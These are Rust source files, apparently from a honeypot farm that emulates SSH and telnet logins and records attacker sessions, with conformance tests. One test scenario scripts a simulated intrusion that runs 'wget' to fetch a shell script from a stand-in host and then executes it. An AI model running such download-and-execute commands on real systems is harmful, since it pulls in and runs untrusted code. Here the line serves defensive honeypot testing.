    Ok(reply)
}
