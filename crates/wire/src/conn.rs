//! Per-connection protocol state machine.
//!
//! [`SessionConn`] is the pure (socket-free) core of the live farm: the
//! reactor feeds it raw bytes and it produces reply bytes plus, exactly once,
//! a finished [`SessionRecord`]. Both wire protocols route every semantic
//! event — banner, credential offer, command line, idle gap — through the
//! same [`SessionDriver`] the simulator and the scenario replayer use, which
//! is what makes the wire path bit-comparable to the offline path.
//!
//! # Timing modes
//!
//! * [`Timing::Wall`] — production shape. The driver's simulated clock is
//!   topped up from wall time before every event, so think times and idle
//!   timeouts reflect real elapsed seconds (whole-second resolution, like
//!   the old Tokio servers).
//! * [`Timing::Virtual`] — deterministic shape for conformance tests and
//!   load generation. Wall time never touches the driver; instead the
//!   client scripts time explicitly through the in-band `@hfs` control
//!   channel below. Two runs of the same script produce identical records.
//!
//! # The `@hfs` control channel (Virtual timing only)
//!
//! A line starting with `@hfs ` is intercepted before protocol dispatch and
//! never reaches the login/shell machinery:
//!
//! ```text
//! @hfs start <day> <secs>     session start instant (before first event)
//! @hfs client <ip> <port>     recorded client address (before first event)
//! @hfs fetcher synthetic|null shell fetcher choice (before first event)
//! @hfs think <n>              typing delay for subsequent login/cmd lines
//! @hfs idle <n>               n seconds of client silence (may time out)
//! @hfs transfer <n>           a completed external transfer of n seconds
//! ```
//!
//! Malformed control lines are ignored. Under [`Timing::Wall`] the prefix is
//! not special: such lines flow through the ordinary protocol paths, exactly
//! like any other attacker input.
//!
//! # Fault policy
//!
//! Documented, test-enforced behaviour for hostile input — the connection is
//! closed and the session still yields a (classifiable) record:
//!
//! * **Oversized line** — more than [`MAX_LINE`] bytes without a terminator:
//!   counted (`wire.oversized_lines`), session closed as a client close.
//! * **Telnet option storm** — more than [`NEGOTIATION_BUDGET`] negotiation
//!   verbs: counted (`wire.telnet_storms`), session closed as a client
//!   close.
//! * **Abrupt disconnect / read error** — the driver records a client close
//!   in whatever phase it reached; a connection that never spoke at all
//!   still produces the paper's NO_CRED scan shape.
//!
//! A partial (unterminated) line pending at EOF is discarded, matching the
//! old Tokio servers' line-oriented readers.

use bytes::BytesMut;
use hf_geo::Ip4;
use hf_honeypot::{AuthResult, HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::ssh_ident::{server_ident, SshIdent};
use hf_proto::telnet::{
    self, encode_data, encode_negotiate, refusal_for, LineAssembler, TelnetDecoder, TelnetEvent,
};
use hf_proto::Protocol;
use hf_shell::{NullFetcher, RemoteFetcher, SyntheticFetcher};
use hf_simclock::SimInstant;

use crate::stats::FarmStats;

/// Longest accepted line (bytes, terminator excluded). Anything longer is
/// the oversized-line fault.
pub const MAX_LINE: usize = 4096;

/// Telnet option-negotiation budget per connection. Anything chattier is the
/// option-storm fault.
pub const NEGOTIATION_BUDGET: u32 = 128;

/// How a connection maps real time onto the session clock.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Timing {
    /// Wall-clock seconds drive think times and timeouts (production).
    Wall,
    /// Time passes only via `@hfs` control lines (deterministic tests).
    Virtual,
}

/// Shell fetcher selection, mirroring the scenario header's `fetcher`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
enum FetcherChoice {
    #[default]
    Synthetic,
    Null,
}

impl FetcherChoice {
    fn build(self) -> Box<dyn RemoteFetcher> {
        match self {
            FetcherChoice::Synthetic => Box::new(SyntheticFetcher),
            FetcherChoice::Null => Box::new(NullFetcher),
        }
    }
}

/// Everything a [`SessionConn`] needs at accept time.
pub struct ConnParams {
    /// Virtual node index the listener belongs to.
    pub honeypot: u16,
    /// Which wire protocol this listener speaks.
    pub protocol: Protocol,
    /// Honeypot policy + system profile for this node.
    pub config: HoneypotConfig,
    /// Wall or virtual timing (see module docs).
    pub timing: Timing,
    /// Farm-wide counters.
    pub stats: FarmStats,
    /// Real peer address (used unless overridden via `@hfs client`).
    pub peer_ip: Ip4,
    /// Real peer port.
    pub peer_port: u16,
    /// Session-clock origin for sessions that don't script their own start.
    pub clock_base: SimInstant,
}

enum ProtoState {
    Ssh {
        ident_seen: bool,
        username: Option<String>,
    },
    Telnet {
        decoder: TelnetDecoder,
        phase: TelnetPhase,
        negotiations: u32,
    },
}

enum TelnetPhase {
    Username,
    Password { username: String },
    Shell,
}

/// One accepted connection's session logic, free of any socket types.
pub struct SessionConn {
    honeypot: u16,
    protocol: Protocol,
    hostname: String,
    config: HoneypotConfig,
    timing: Timing,
    stats: FarmStats,
    peer_ip: Ip4,
    peer_port: u16,
    clock_base: SimInstant,
    started: std::time::Instant,
    think: u32,
    pending_start: Option<SimInstant>,
    pending_client: Option<(Ip4, u16)>,
    pending_fetcher: FetcherChoice,
    driver: Option<SessionDriver>,
    driver_start: SimInstant,
    lines: LineAssembler,
    proto: ProtoState,
    finished: bool,
}

impl SessionConn {
    /// Create the connection state and the greeting bytes the server sends
    /// immediately after accept (SSH ident line / telnet negotiation+login
    /// banner).
    pub fn new(params: ConnParams) -> (SessionConn, Vec<u8>) {
        let hostname = params.config.profile.hostname.clone();
        let greeting = match params.protocol {
            Protocol::Ssh => server_ident().wire_bytes().to_vec(),
            Protocol::Telnet => {
                let mut out = BytesMut::new();
                encode_negotiate(telnet::WILL, telnet::option::ECHO, &mut out);
                encode_negotiate(telnet::WILL, telnet::option::SGA, &mut out);
                encode_data(format!("\r\n{hostname} login: ").as_bytes(), &mut out);
                out.to_vec()
            }
        };
        let proto = match params.protocol {
            Protocol::Ssh => ProtoState::Ssh {
                ident_seen: false,
                username: None,
            },
            Protocol::Telnet => ProtoState::Telnet {
                decoder: TelnetDecoder::new(),
                phase: TelnetPhase::Username,
                negotiations: 0,
            },
        };
        let mut conn = SessionConn {
            honeypot: params.honeypot,
            protocol: params.protocol,
            hostname,
            config: params.config,
            timing: params.timing,
            stats: params.stats,
            peer_ip: params.peer_ip,
            peer_port: params.peer_port,
            clock_base: params.clock_base,
            started: std::time::Instant::now(),
            think: 1,
            pending_start: None,
            pending_client: None,
            pending_fetcher: FetcherChoice::Synthetic,
            driver: None,
            driver_start: params.clock_base,
            lines: LineAssembler::new(),
            proto,
            finished: false,
        };
        if conn.timing == Timing::Wall {
            // Production timing observes the connection from accept onward;
            // virtual timing defers so `@hfs start`/`client` can still apply.
            conn.ensure_driver();
        }
        (conn, greeting)
    }

    /// Is the client authenticated right now?
    pub fn authenticated(&self) -> bool {
        self.driver.as_ref().is_some_and(|d| d.authenticated())
    }

    /// Has the session produced its record?
    pub fn finished(&self) -> bool {
        self.finished
    }

    /// Seconds of client silence the reactor should allow before calling
    /// [`SessionConn::on_wall_timeout`]. Under wall timing this is the
    /// honeypot's own phase limit; under virtual timing it is only a
    /// slow-client guard (scripts express idle time via `@hfs idle`), so the
    /// farm supplies a uniform bound.
    pub fn read_deadline_secs(&self, virtual_guard_secs: u32) -> u32 {
        match self.timing {
            Timing::Wall => {
                if self.authenticated() {
                    self.config.idle_timeout_secs
                } else {
                    self.config.preauth_timeout_secs
                }
            }
            Timing::Virtual => virtual_guard_secs,
        }
    }

    fn ensure_driver(&mut self) -> &mut SessionDriver {
        if self.driver.is_none() {
            let start = self.pending_start.unwrap_or(self.clock_base);
            let (ip, port) = self
                .pending_client
                .unwrap_or((self.peer_ip, self.peer_port));
            self.driver_start = start;
            self.driver = Some(SessionDriver::accept(
                self.config.clone(),
                self.honeypot,
                self.protocol,
                ip,
                port,
                start,
                self.pending_fetcher.build(),
            ));
        }
        self.driver.as_mut().expect("just created")
    }

    /// Whole wall seconds not yet reflected in the session clock.
    fn wall_lag_secs(&self) -> u32 {
        let wall = self.started.elapsed().as_secs();
        let sim = self
            .driver
            .as_ref()
            .map(|d| d.now().delta_secs(self.driver_start).max(0) as u64)
            .unwrap_or(0);
        wall.saturating_sub(sim) as u32
    }

    /// Top the session clock up to wall time (letting idle accrue).
    fn sync_clock(&mut self) {
        if self.timing != Timing::Wall {
            return;
        }
        let lag = self.wall_lag_secs();
        if lag > 0 {
            self.ensure_driver().advance(lag);
        }
    }

    /// Typing delay consumed by the next login/command.
    fn think_secs(&self) -> u32 {
        match self.timing {
            Timing::Wall => self.wall_lag_secs(),
            Timing::Virtual => self.think,
        }
    }

    fn finish(&mut self) -> SessionRecord {
        self.finished = true;
        let rec = match self.driver.take() {
            Some(d) => d.into_record(),
            // A connection that produced no driver yet (virtual timing, no
            // input): a pure connect-and-leave scan.
            None => {
                self.ensure_driver();
                self.driver.take().expect("just created").into_record()
            }
        };
        rec
    }

    /// Client bytes arrived. Reply bytes are appended to `out`; a returned
    /// record means the session just ended (the reactor should flush `out`
    /// and close once written).
    pub fn on_input(&mut self, data: &[u8], out: &mut Vec<u8>) -> Option<SessionRecord> {
        if self.finished {
            return None;
        }
        match self.protocol {
            Protocol::Ssh => self.on_ssh_input(data, out),
            Protocol::Telnet => self.on_telnet_input(data, out),
        }
    }

    /// The peer closed its end (or the read failed, already counted by the
    /// reactor). Always yields the record.
    pub fn on_eof(&mut self) -> SessionRecord {
        self.sync_clock();
        self.finish()
    }

    /// The reactor's read deadline expired. Mirrors the honeypot timeout in
    /// the session clock and yields the Timeout-ended record.
    pub fn on_wall_timeout(&mut self) -> SessionRecord {
        self.sync_clock();
        let limit = if self.authenticated() {
            self.config.idle_timeout_secs
        } else {
            self.config.preauth_timeout_secs
        };
        // `advance` clamps the overshoot, so +1 lands exactly on the limit.
        self.ensure_driver().advance(limit + 1);
        self.stats.on_wall_timeout();
        self.finish()
    }

    fn oversized(&mut self) -> Option<SessionRecord> {
        self.stats.on_oversized();
        self.sync_clock();
        Some(self.finish())
    }

    fn on_ssh_input(&mut self, data: &[u8], out: &mut Vec<u8>) -> Option<SessionRecord> {
        for line in self.lines.push(data) {
            if let Some(rec) = self.handle_line(line, out) {
                return Some(rec);
            }
        }
        if self.lines.pending().len() > MAX_LINE {
            return self.oversized();
        }
        None
    }

    fn on_telnet_input(&mut self, data: &[u8], out: &mut Vec<u8>) -> Option<SessionRecord> {
        let ProtoState::Telnet { decoder, .. } = &mut self.proto else {
            unreachable!("telnet input on ssh state");
        };
        let events = decoder.feed(data);
        let mut reply = BytesMut::new();
        let mut fault = false;
        let mut line_queue: Vec<String> = Vec::new();
        for ev in events {
            match ev {
                TelnetEvent::Negotiate { verb, opt } => {
                    let ProtoState::Telnet { negotiations, .. } = &mut self.proto else {
                        unreachable!()
                    };
                    *negotiations += 1;
                    if *negotiations > NEGOTIATION_BUDGET {
                        fault = true;
                        break;
                    }
                    if opt == telnet::option::ECHO || opt == telnet::option::SGA {
                        if verb == telnet::DO {
                            encode_negotiate(telnet::WILL, opt, &mut reply);
                        }
                    } else {
                        encode_negotiate(refusal_for(verb), opt, &mut reply);
                    }
                }
                TelnetEvent::Data(bytes) => line_queue.extend(self.lines.push(&bytes)),
                TelnetEvent::Subnegotiation { .. } | TelnetEvent::Command(_) => {}
            }
        }
        out.extend_from_slice(&reply);
        if fault {
            self.stats.on_telnet_storm();
            self.sync_clock();
            return Some(self.finish());
        }
        for line in line_queue {
            if let Some(rec) = self.handle_line(line, out) {
                return Some(rec);
            }
        }
        if self.lines.pending().len() > MAX_LINE {
            return self.oversized();
        }
        None
    }

    fn handle_line(&mut self, line: String, out: &mut Vec<u8>) -> Option<SessionRecord> {
        if self.finished {
            return None;
        }
        if self.timing == Timing::Virtual {
            if let Some(rest) = line.strip_prefix("@hfs ") {
                return self.handle_control(rest);
            }
        }
        match self.proto {
            ProtoState::Ssh { .. } => self.handle_ssh_line(line, out),
            ProtoState::Telnet { .. } => self.handle_telnet_line(line, out),
        }
    }

    /// One `@hfs` directive (prefix already stripped). Malformed directives
    /// are silently ignored — the control channel is for our own tooling,
    /// not attackers, and dropping a bad line is the least surprising
    /// failure mode for a deterministic test.
    fn handle_control(&mut self, rest: &str) -> Option<SessionRecord> {
        let (word, args) = match rest.split_once(char::is_whitespace) {
            Some((w, a)) => (w, a.trim()),
            None => (rest, ""),
        };
        match word {
            "start" if self.driver.is_none() => {
                if let Some((d, s)) = args.split_once(char::is_whitespace) {
                    if let (Ok(day), Ok(secs)) = (d.trim().parse(), s.trim().parse()) {
                        self.pending_start = Some(SimInstant::from_day_and_secs(day, secs));
                    }
                }
            }
            "client" if self.driver.is_none() => {
                if let Some((ip, port)) = args.split_once(char::is_whitespace) {
                    if let (Some(ip), Ok(port)) =
                        (Ip4::parse(ip.trim()), port.trim().parse::<u16>())
                    {
                        self.pending_client = Some((ip, port));
                    }
                }
            }
            "fetcher" if self.driver.is_none() => match args {
                "synthetic" => self.pending_fetcher = FetcherChoice::Synthetic,
                "null" => self.pending_fetcher = FetcherChoice::Null,
                _ => {}
            },
            "think" => {
                if let Ok(n) = args.parse() {
                    self.think = n;
                }
            }
            "idle" => {
                if let Ok(n) = args.parse::<u32>() {
                    if !self.ensure_driver().advance(n) {
                        return Some(self.finish());
                    }
                }
            }
            "transfer" => {
                if let Ok(n) = args.parse::<u32>() {
                    self.ensure_driver().external_transfer(n);
                }
            }
            _ => {}
        }
        None
    }

    fn handle_ssh_line(&mut self, line: String, out: &mut Vec<u8>) -> Option<SessionRecord> {
        let think = self.think_secs();
        if !self.authenticated() {
            // RFC 4253 §4.2: the first SSH- line is the client ident.
            let ident_seen = match &self.proto {
                ProtoState::Ssh { ident_seen, .. } => *ident_seen,
                ProtoState::Telnet { .. } => unreachable!("ssh line on telnet state"),
            };
            if !ident_seen && line.starts_with("SSH-") {
                if let ProtoState::Ssh { ident_seen, .. } = &mut self.proto {
                    *ident_seen = true;
                }
                if let Ok(ident) = SshIdent::parse(&line) {
                    let rendered = ident.render();
                    self.ensure_driver().client_banner(&rendered);
                }
                return None;
            }
            if let Some(u) = line.strip_prefix("USER ") {
                if let ProtoState::Ssh { username, .. } = &mut self.proto {
                    *username = Some(u.to_string());
                }
                return None;
            }
            if let Some(p) = line.strip_prefix("PASS ") {
                let user = match &mut self.proto {
                    ProtoState::Ssh { username, .. } => username.take().unwrap_or_default(),
                    ProtoState::Telnet { .. } => unreachable!(),
                };
                let creds = Credentials::new(&user, p);
                match self.ensure_driver().offer_credentials(creds, think) {
                    AuthResult::Accepted => {
                        self.stats.on_auth(true);
                        out.extend_from_slice(b"AUTH-OK\n");
                    }
                    AuthResult::Rejected => {
                        self.stats.on_auth(false);
                        out.extend_from_slice(b"AUTH-FAIL\n");
                    }
                    AuthResult::Disconnected => {
                        self.stats.on_auth(false);
                        out.extend_from_slice(b"AUTH-FAIL-CLOSE\n");
                        return Some(self.finish());
                    }
                }
                return None;
            }
            // Anything else pre-auth is ignored (matching SSH clients that
            // send KEX blobs we don't parse).
            return None;
        }
        if line == "EXIT" {
            self.sync_clock();
            self.ensure_driver().client_close();
            return Some(self.finish());
        }
        self.stats.on_command();
        if let Some(output) = self.ensure_driver().run_command(&line, think) {
            out.extend_from_slice(output.as_bytes());
            out.extend_from_slice(b"##\n");
        }
        if self.driver.as_ref().is_some_and(|d| d.finished()) {
            return Some(self.finish());
        }
        None
    }

    fn handle_telnet_line(&mut self, line: String, out: &mut Vec<u8>) -> Option<SessionRecord> {
        let think = self.think_secs();
        let hostname = self.hostname.clone();
        let current = match &mut self.proto {
            ProtoState::Telnet { phase, .. } => std::mem::replace(phase, TelnetPhase::Username),
            ProtoState::Ssh { .. } => unreachable!("telnet line on ssh state"),
        };
        let mut reply = BytesMut::new();
        let mut done = false;
        match current {
            TelnetPhase::Username => {
                encode_data(b"Password: ", &mut reply);
                self.set_telnet_phase(TelnetPhase::Password { username: line });
            }
            TelnetPhase::Password { username } => {
                let creds = Credentials::new(&username, &line);
                match self.ensure_driver().offer_credentials(creds, think) {
                    AuthResult::Accepted => {
                        self.stats.on_auth(true);
                        encode_data(
                            format!("\r\nWelcome to {hostname}\r\nroot@{hostname}:~# ").as_bytes(),
                            &mut reply,
                        );
                        self.set_telnet_phase(TelnetPhase::Shell);
                    }
                    AuthResult::Rejected => {
                        self.stats.on_auth(false);
                        encode_data(
                            format!("\r\nLogin incorrect\r\n{hostname} login: ").as_bytes(),
                            &mut reply,
                        );
                        self.set_telnet_phase(TelnetPhase::Username);
                    }
                    AuthResult::Disconnected => {
                        self.stats.on_auth(false);
                        encode_data(b"\r\nLogin incorrect\r\n", &mut reply);
                        done = true;
                    }
                }
            }
            TelnetPhase::Shell => {
                self.set_telnet_phase(TelnetPhase::Shell);
                self.stats.on_command();
                if let Some(output) = self.ensure_driver().run_command(&line, think) {
                    encode_data(output.replace('\n', "\r\n").as_bytes(), &mut reply);
                    if !self.driver.as_ref().is_some_and(|d| d.finished()) {
                        encode_data(format!("root@{hostname}:~# ").as_bytes(), &mut reply);
                    }
                }
                if self.driver.as_ref().is_some_and(|d| d.finished()) {
                    done = true;
                }
            }
        }
        out.extend_from_slice(&reply);
        if done {
            return Some(self.finish());
        }
        None
    }

    fn set_telnet_phase(&mut self, new: TelnetPhase) {
        if let ProtoState::Telnet { ref mut phase, .. } = self.proto {
            *phase = new;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_honeypot::EndReason;
    use hf_shell::SystemProfile;

    fn params(protocol: Protocol, timing: Timing) -> ConnParams {
        ConnParams {
            honeypot: 3,
            protocol,
            config: HoneypotConfig::paper(SystemProfile::default()),
            timing,
            stats: FarmStats::new(),
            peer_ip: Ip4::new(203, 0, 113, 9),
            peer_port: 50222,
            clock_base: SimInstant::EPOCH,
        }
    }

    #[test]
    fn ssh_dialogue_full_intrusion() {
        let (mut c, greeting) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        assert!(greeting.starts_with(b"SSH-2.0-OpenSSH"));
        let mut out = Vec::new();
        assert!(c.on_input(b"SSH-2.0-Go\r\n", &mut out).is_none());
        assert!(c.on_input(b"USER root\nPASS 1234\n", &mut out).is_none());
        assert!(String::from_utf8_lossy(&out).contains("AUTH-OK"));
        out.clear();
        assert!(c.on_input(b"uname -a\n", &mut out).is_none());
        let text = String::from_utf8_lossy(&out).to_string();
        assert!(text.contains("Linux"), "{text}");
        assert!(text.ends_with("##\n"), "{text}");
        let rec = c.on_input(b"EXIT\n", &mut out).expect("record on EXIT");
        assert_eq!(rec.ssh_client_version.as_deref(), Some("SSH-2.0-Go"));
        assert!(rec.login_succeeded());
        assert_eq!(rec.commands.len(), 1);
        assert_eq!(rec.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn ssh_auth_cap_closes_with_record() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        assert!(c
            .on_input(b"USER admin\nPASS admin\nUSER root\nPASS root\n", &mut out)
            .is_none());
        let rec = c
            .on_input(b"USER user\nPASS user\n", &mut out)
            .expect("third failure disconnects");
        assert_eq!(rec.ended_by, EndReason::AuthLimit);
        assert_eq!(rec.logins.len(), 3);
        assert!(String::from_utf8_lossy(&out).contains("AUTH-FAIL-CLOSE"));
    }

    #[test]
    fn ssh_banner_less_session_still_authenticates() {
        // Regression guard: the first line must not be swallowed as an ident
        // attempt when the client never sends one.
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        c.on_input(b"USER root\nPASS abc\n", &mut out);
        assert!(c.authenticated());
        let rec = c.on_eof();
        assert_eq!(rec.ssh_client_version, None);
        assert!(rec.login_succeeded());
    }

    #[test]
    fn telnet_dialogue_and_negotiation() {
        let (mut c, greeting) = SessionConn::new(params(Protocol::Telnet, Timing::Virtual));
        assert!(greeting
            .windows(3)
            .any(|w| w == [telnet::IAC, telnet::WILL, telnet::option::ECHO]));
        let mut out = Vec::new();
        // Refused option, then the login dialogue.
        c.on_input(&[telnet::IAC, telnet::DO, 34], &mut out);
        assert!(out.windows(3).any(|w| w == [telnet::IAC, telnet::WONT, 34]));
        out.clear();
        c.on_input(b"root\r\n", &mut out);
        assert!(String::from_utf8_lossy(&out).contains("Password: "));
        out.clear();
        c.on_input(b"hunter2\r\n", &mut out);
        assert!(String::from_utf8_lossy(&out).contains("Welcome to"));
        out.clear();
        c.on_input(b"uname -a\r\n", &mut out);
        assert!(String::from_utf8_lossy(&out).contains("Linux"));
        let rec = c.on_eof();
        assert!(rec.login_succeeded());
        assert_eq!(rec.commands.len(), 1);
    }

    #[test]
    fn control_channel_scripts_time_and_identity() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        c.on_input(b"@hfs start 5 1000\n@hfs client 10.1.2.3 41000\n", &mut out);
        c.on_input(b"@hfs think 4\nUSER root\nPASS pw\n", &mut out);
        c.on_input(b"@hfs idle 30\n@hfs transfer 200\n", &mut out);
        let rec = c.on_eof();
        assert_eq!(rec.start, SimInstant::from_day_and_secs(5, 1000));
        assert_eq!(rec.client_ip, Ip4::new(10, 1, 2, 3));
        assert_eq!(rec.client_port, 41000);
        // think 4 + idle 30 + transfer 200
        assert_eq!(rec.duration_secs, 234);
    }

    #[test]
    fn control_idle_can_time_out() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let mut out = Vec::new();
        let rec = c
            .on_input(b"@hfs idle 61\n", &mut out)
            .expect("preauth timeout");
        assert_eq!(rec.ended_by, EndReason::Timeout);
        assert_eq!(rec.duration_secs, 60, "overshoot clamped to the limit");
    }

    #[test]
    fn wall_timing_passes_hfs_lines_to_the_protocol() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Wall));
        let mut out = Vec::new();
        c.on_input(b"@hfs idle 61\n", &mut out);
        let rec = c.on_eof();
        // Ignored as pre-auth noise: no timeout, no logins.
        assert_eq!(rec.ended_by, EndReason::ClientClose);
        assert!(rec.logins.is_empty());
    }

    #[test]
    fn oversized_line_closes_with_record() {
        let p = params(Protocol::Ssh, Timing::Virtual);
        let stats = p.stats.clone();
        let (mut c, _) = SessionConn::new(p);
        let mut out = Vec::new();
        let rec = c
            .on_input(&vec![b'a'; MAX_LINE + 1], &mut out)
            .expect("oversized fault");
        assert_eq!(rec.ended_by, EndReason::ClientClose);
        assert_eq!(stats.oversized_lines(), 1);
    }

    #[test]
    fn telnet_option_storm_closes_with_record() {
        let p = params(Protocol::Telnet, Timing::Virtual);
        let stats = p.stats.clone();
        let (mut c, _) = SessionConn::new(p);
        let mut out = Vec::new();
        let mut storm = Vec::new();
        for _ in 0..(NEGOTIATION_BUDGET + 1) {
            storm.extend_from_slice(&[telnet::IAC, telnet::DO, 34]);
        }
        let rec = c.on_input(&storm, &mut out).expect("storm fault");
        assert_eq!(rec.ended_by, EndReason::ClientClose);
        assert_eq!(stats.telnet_storms(), 1);
    }

    #[test]
    fn pure_scan_yields_no_cred_record() {
        let (mut c, _) = SessionConn::new(params(Protocol::Ssh, Timing::Virtual));
        let rec = c.on_eof();
        assert!(rec.logins.is_empty());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn wire_record_matches_simulator_replay() {
        // The conn, fed a wire script, must reproduce Scenario::replay()'s
        // record bit for bit — the per-conn version of the conformance suite.
        let sc = hf_testkit::Scenario::parse(
            "name unit\n\
             banner SSH-2.0-Go\n\
             think 2\n\
             login root 1234\n\
             cmd cd /tmp && wget http://198.51.100.1/x.sh\n\
             transfer 200\n\
             cmd sh x.sh\n\
             close\n",
        )
        .unwrap();
        let expected = sc.replay();
        let (mut c, _) = SessionConn::new(ConnParams {
            honeypot: sc.honeypot,
            protocol: sc.protocol,
            config: HoneypotConfig::default(),
            timing: Timing::Virtual,
            stats: FarmStats::new(),
            peer_ip: Ip4::new(127, 0, 0, 1),
            peer_port: 9,
            clock_base: SimInstant::EPOCH,
        });
        let script = crate::script::wire_script(&sc);
        let mut out = Vec::new();
        let rec = match c.on_input(script.as_bytes(), &mut out) {
            Some(rec) => rec,
            None => c.on_eof(),
        };
        assert_eq!(rec, expected);
    }
}
