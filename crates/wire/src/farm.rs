//! The live farm: listeners, reactor, and collector pipeline.
//!
//! [`LiveFarm::start`] binds one SSH and one telnet listener per virtual
//! node on mirror loopback addresses (the deployment's `198.x.y.z` node
//! plan with the first octet swapped to `127`, so every node keeps its own
//! distinct local IP), then runs two threads:
//!
//! * **Reactor** — a single epoll loop owning every socket. Accepts map to
//!   [`SessionConn`] state machines in a slab; reads, writes, per-IP caps,
//!   and read deadlines are all driven level-triggered off one `epoll_wait`
//!   tick. A finished session's record is pushed into the collector channel
//!   *synchronously*: when the channel (bounded, `channel_capacity`) is
//!   full, the reactor blocks — accept/read stop draining their backlogs,
//!   TCP receive windows fill, and the clients slow down. That stall *is*
//!   the backpressure mechanism.
//! * **Collector** — owns the [`Collector`] ingest pipeline. Drains the
//!   channel, geolocates and stores each record, counts distinct client
//!   addresses, and finishes into the farm [`Dataset`] when the channel
//!   disconnects.
//!
//! # Shutdown protocol (zero record loss)
//!
//! [`LiveFarm::shutdown`] sets a flag the reactor observes within one tick
//! (≤25 ms). The reactor then: stops accepting (drops every listener),
//! force-finishes every live connection as a client close (each yields its
//! record into the channel), closes the sockets, flushes its obs buffers,
//! and drops the channel sender. The collector sees the disconnect only
//! after every in-flight record is behind it, finishes the dataset, and
//! exits. `shutdown` joins both threads and returns the [`FarmOutput`] —
//! which is why `accepted == ingested + rejected` holds exactly at that
//! point, with no grace-period heuristics.
//!
//! # Accounting invariant
//!
//! Every accepted connection takes exactly one of two paths: rejected at
//! accept by the per-IP cap (no record), or owned by a [`SessionConn`] that
//! emits exactly one record on every exit path (protocol close, EOF, read
//! error, fault policy, deadline, farm shutdown). [`FarmStats`] counts both
//! sides; `wire_shutdown.rs` and the loadgen smoke assert the equality.

use std::collections::{HashMap, HashSet};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, SyncSender};
use std::sync::Arc;
use std::time::{Duration, Instant};

use hf_farm::deployment::node_ip;
use hf_farm::{Collector, Dataset, FarmPlan, Snapshot, SnapshotMeta, TagDb};
use hf_geo::{Ip4, World, WorldConfig};
use hf_honeypot::{HoneypotConfig, SessionRecord};
use hf_proto::Protocol;
use hf_shell::SystemProfile;
use hf_simclock::SimInstant;

use crate::conn::{ConnParams, SessionConn, Timing};
use crate::epoll::{self, Epoll};
use crate::stats::FarmStats;

/// Reactor tick; also the shutdown-observation latency bound.
const TICK_MS: i32 = 25;
/// Max reads per connection per wake, for fairness across connections
/// (level-triggered epoll re-reports anything left unread).
const READS_PER_WAKE: u32 = 8;
/// How long a draining connection may take to flush its final bytes.
const DRAIN_SECS: u64 = 5;

const LISTENER_FLAG: u64 = 1 << 63;

/// Farm configuration. `Default` is sized for tests: 3 nodes, ephemeral
/// ports, wall timing.
#[derive(Debug, Clone)]
pub struct FarmConfig {
    /// Number of virtual nodes to bind (the paper deployment is 221).
    pub nodes: u16,
    /// SSH listener port (0 = ephemeral, distinct per node).
    pub ssh_port: u16,
    /// Telnet listener port (0 = ephemeral, distinct per node).
    pub telnet_port: u16,
    /// Wall-clock or script-driven session timing.
    pub timing: Timing,
    /// Use the default [`SystemProfile`] on every node instead of the
    /// per-node profile — required for bit-identical comparison against
    /// `Scenario::replay()`, which runs `HoneypotConfig::default()`.
    pub uniform_profile: bool,
    /// Override the honeypot pre-auth timeout (seconds).
    pub preauth_timeout_secs: Option<u32>,
    /// Override the honeypot idle timeout (seconds).
    pub idle_timeout_secs: Option<u32>,
    /// Read deadline for [`Timing::Virtual`] connections (a slow-client
    /// guard; wall-timing connections use the honeypot's own limits).
    pub wall_timeout_secs: u32,
    /// Max concurrently open connections per client IP; the excess is
    /// closed at accept without a record.
    pub per_ip_cap: u32,
    /// Bounded collector-channel depth (the backpressure knob).
    pub channel_capacity: usize,
    /// Also keep raw [`SessionRecord`]s in [`FarmOutput::records`]
    /// (conformance tests want field-level diffs, not just the store).
    pub keep_records: bool,
    /// Session-clock origin for wall timing and unscripted sessions.
    pub clock_base: SimInstant,
}

impl Default for FarmConfig {
    fn default() -> Self {
        FarmConfig {
            nodes: 3,
            ssh_port: 0,
            telnet_port: 0,
            timing: Timing::Wall,
            uniform_profile: false,
            preauth_timeout_secs: None,
            idle_timeout_secs: None,
            wall_timeout_secs: 30,
            per_ip_cap: 1024,
            channel_capacity: 1024,
            keep_records: false,
            clock_base: SimInstant::EPOCH,
        }
    }
}

/// Where one virtual node's listeners ended up.
#[derive(Debug, Clone, Copy)]
pub struct NodeAddrs {
    /// Node (honeypot) index.
    pub id: u16,
    /// Bound SSH listener address.
    pub ssh: SocketAddr,
    /// Bound telnet listener address.
    pub telnet: SocketAddr,
}

/// Everything a farm run produced.
pub struct FarmOutput {
    /// The collector's finished dataset.
    pub dataset: Dataset,
    /// Raw records in ingest order (only if `keep_records` was set).
    pub records: Vec<SessionRecord>,
    /// Distinct client addresses observed.
    pub n_clients: u64,
    /// Final counters (accounting balanced after shutdown — see module
    /// docs).
    pub stats: FarmStats,
}

impl FarmOutput {
    /// Package the run as an hfstore snapshot (the `hfarm serve` shutdown
    /// artifact). Live runs have no seed or scale; days span the observed
    /// session starts.
    pub fn to_snapshot(&self) -> Snapshot {
        let sessions = &self.dataset.sessions;
        let days = (0..sessions.len())
            .map(|i| sessions.view(i).day())
            .max()
            .map_or(1, |d| d + 1);
        Snapshot {
            meta: SnapshotMeta {
                seed: 0,
                scale_volume: 0.0,
                scale_hashes: 0.0,
                days,
                n_clients: self.n_clients,
            },
            plan: self.dataset.plan.clone(),
            sessions: self.dataset.sessions.clone(),
            tags: TagDb::new(),
        }
    }
}

/// The mirror loopback address of a virtual node: the deployment plan's
/// `198.x.y.z` with the first octet swapped into `127/8`, which Linux binds
/// without any interface configuration.
